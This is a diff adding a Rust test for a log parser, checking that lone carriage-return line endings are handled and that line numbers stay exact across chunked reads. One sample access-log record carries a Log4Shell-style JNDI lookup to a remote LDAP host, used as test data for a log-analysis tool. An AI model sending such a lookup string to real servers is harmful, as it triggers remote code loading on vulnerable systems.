@@ -806,3 +806,66 @@ fn issue17_long_first_line_or_nul_padding_does_not_hide_the_file() {
         }
     }
 }
+
+#[test]
+fn issue17_lone_cr_line_ends_are_line_ends() {
+    let dir = tempfile::tempdir().unwrap();
+    let records = [
+        "10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"ua\"",
+        "10.0.0.2 - - [01/Jan/2024:00:00:01 +0000] \"GET /b HTTP/1.1\" 200 5 \"-\" \"ua\"",
+        "10.0.0.3 - - [01/Jan/2024:00:00:02 +0000] \"GET /c HTTP/1.1\" 200 5 \"-\" \"ua\"",
+        "10.0.0.4 - - [01/Jan/2024:00:00:03 +0000] \"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"ua\"",
+    ];
+    let p = write(dir.path(), "cr.log", (records.join("\r") + "\r").as_bytes());
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    assert_eq!(stats[0].format, "access");
+    assert_eq!((stats[0].events, stats[0].unparsed), (4, 0), "{stats:?}");
+    assert_eq!(evs[3].origin.position, Position::Line(4));
+    assert!(text(&evs[3], "cs-uri-query").is_some_and(|q| q.contains("${jndi:ldap")));
+    assert_eq!(evs[3].raw.as_deref(), Some(records[3]));
+
+    // Mixed ends in a file large enough to be chunked: line numbers stay exact across chunks.
+    let ends = ["\r", "\n", "\r\n"];
+    let mut body = String::new();
+    for i in 0..30_000 {
+        body.push_str(&format!(
+            "10.0.0.{} - - [01/Jan/2024:00:00:00 +0000] \"GET /p{i} HTTP/1.1\" 200 {i} \"-\" \"ua\"",
+            i % 250
+        ));
+        body.push_str(ends[i * 7 % 3]);
+        if i % 1013 == 0 {
+            body.push_str("\r\n"); // a blank line between records
+        }
+    }
+    let p = write(dir.path(), "mixed.log", body.as_bytes());
+    let files = vec![spoor_input::InputFile::new(&p)];
+    let mut seen = Vec::new();
+    for split_bytes in [u64::MAX, 100_000, 77_777] {
+        let opts = ReadOptions {
+            split_bytes,
+            ..ReadOptions::default()
+        };
+        let (states, stats) = read_all(&files, &opts, Vec::new, |v: &mut Vec<(u64, String)>, e| {
+            v.push((
+                e.origin.position.number(),
+                text(&e, "cs-uri-stem").unwrap_or_default(),
+            ))
+        });
+        if split_bytes != u64::MAX {
+            assert!(states.len() >= 10, "{} chunks", states.len());
+        }
+        let s = &stats[0];
+        assert_eq!((s.events, s.unparsed), (30_000, 0), "{s:?}");
+        assert_eq!(s.skipped, 30, "{s:?}");
+        let mut got: Vec<(u64, String)> = states.into_iter().flatten().collect();
+        got.sort();
+        // Record i is on line i + 1 + (blank lines before it).
+        for (i, (line, stem)) in got.iter().enumerate() {
+            assert_eq!(stem, &format!("/p{i}"));
+            assert_eq!(*line, i as u64 + 1 + (i as u64).div_ceil(1013), "{stem}");
+        }
+        seen.push(got);
+    }
+    assert!(seen.windows(2).all(|w| w[0] == w[1]));
+}
